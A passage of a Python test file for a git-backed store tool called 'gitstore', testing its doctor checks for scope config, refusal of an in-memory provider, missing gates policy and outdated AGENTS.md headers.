    git(root, "remote", "remove", "origin")
    [check] = checks(root, "scope")
    assert check["detail"].startswith("origin was removed after") and check["todo"].endswith(", or add origin again")


def test_a_store_set_up_before_scopes_were_kept_keeps_its_scope_at_its_next_command(repo: Path) -> None:
    init(repo)
    git(repo, "config", "--local", "--unset", "gitstore.scope")
    before = json.loads(cli.ok("status", "--json", cwd=repo))["scope"]
    assert git(repo, "config", "--local", "gitstore.scope").strip() == before
    git(repo, "config", "--global", "gitstore.scope", "local/0000000000000000")  # the user's file is not read
    try:
        assert json.loads(cli.ok("status", "--json", cwd=repo))["scope"] == before
    finally:
        git(repo, "config", "--global", "--unset", "gitstore.scope")
    git(repo, "config", "--local", "gitstore.scope", "local/not-hex")  # edited by hand: no scope gitstore keeps
    assert checks(repo, "scope") == [] and json.loads(cli.ok("status", "--json", cwd=repo))["scope"] == before
    assert git(repo, "config", "--local", "gitstore.scope").strip() == before


def test_a_provider_that_keeps_nothing_past_one_command_fails_and_init_refuses_it(tmp_path: Path) -> None:
    """The memory provider keeps records for one process (tests): a clone whose config.json
    names it would lose every capture and every decision, each command reporting success. So
    the configuration is refused, by every command, by `init --accept-changes` and by doctor."""
    import subprocess

    root = ready_repo(tmp_path / "mem").workspace.root
    config = root / "okf" / ".memory" / "config.json"
    config.write_text(config.read_text().replace('"provider": "git"', '"provider": "memory"'))
    for args in (("init", "--accept-changes"), ("grants",), ("verify",)):
        failed = cli.fails(1, *args, cwd=root)
        assert f"{config}: provider 'memory' keeps records for one process only" in failed, failed
    [check] = checks(root, "init")
    assert check["state"] == "fail" and "provider 'memory' keeps records for one process only" in check["detail"], check
    assert json.loads(config.read_text())["provider"] == "memory"  # refused, never taken
    fresh = tmp_path / "fresh"
    subprocess.run(["git", "init", "-q", str(fresh)], check=True)
    assert "unknown provider 'memory' (one of git, sqlite, jsonl)" in cli.fails(2, "init", "--provider", "memory",
                                                                                  cwd=fresh)
    assert not (fresh / "okf").exists()


def test_a_gates_workflow_without_a_policy_on_the_default_branch_is_named_until_one_is_committed(
        repo: Path, tmp_path: Path) -> None:
    """The gates workflow fails every promotion pull request while no policy is on the default
    branch (its checkout is no one's clone): doctor names it with the trust check's advice."""
    init(repo)
    key, _ = keypair(tmp_path / "keys", "alice")
    sign_as(repo, key.with_name(key.name + ".pub"))
    assert checks(repo, "gates") == [], "no gates workflow: nothing to say"
    cli.ok("ci", "init", "--install", "git+https://github.com/acme/gitstore@v0.1.0", cwd=repo)
    [check] = checks(repo, "gates")
    assert check["state"] == "warn" and check["detail"].startswith(
        ".github/workflows/gitstore-gates.yml is here but no team policy on main"), check
    assert "every promotion pull request fails its gates" in check["detail"]
    assert check["todo"].startswith(f"`gitstore policy init`, then {ON_MAIN}; then accept the promoted learnings "
                                    "again, signed"), check
    follow(repo, command(check["todo"]))
    assert [c["state"] for c in checks(repo, "gates")] == ["warn"], "written, not yet on main"
    follow(repo, command(check["todo"], 1))
    assert checks(repo, "gates") == []


def test_a_section_under_an_earlier_header_is_named_for_its_header_not_for_new_learnings(tmp_path: Path) -> None:
    """A section an earlier version wrote differs from what publish writes now by its header
    alone: doctor says so, and that publish rewrites it, not that learnings came since."""
    from gitstore.deliver import sections
    from gitstore.deliver.publish import EARLIER_HEADER, HEADER

    ctx = ready_repo(tmp_path / "widgets")
    root = ctx.workspace.root
    grant_all(ctx)
    thread = Thread(ctx, 7, "100")
    comment = thread.comment("100", "Retries need jitter, or every client retries at once.", T0)
    thread.save()
    accepted(ctx, propose(ctx, [ref(comment)]))
    cli.ok("publish", cwd=root)
    agents = root / "AGENTS.md"
    for earlier in EARLIER_HEADER:
        parts = sections.split(agents.read_text(), "AGENTS.md")
        agents.write_text(sections.place(parts, (parts.body or "").replace(HEADER[2], earlier)))
        [check] = checks(root, "published files")
        assert check["state"] == "warn" and "header an earlier gitstore wrote" in check["detail"], check
        assert "accepted or changed since" not in check["detail"] and check["todo"] == "gitstore publish", check
        follow(root, check["todo"])
        assert [c["state"] for c in checks(root, "published files")] == ["ok"]
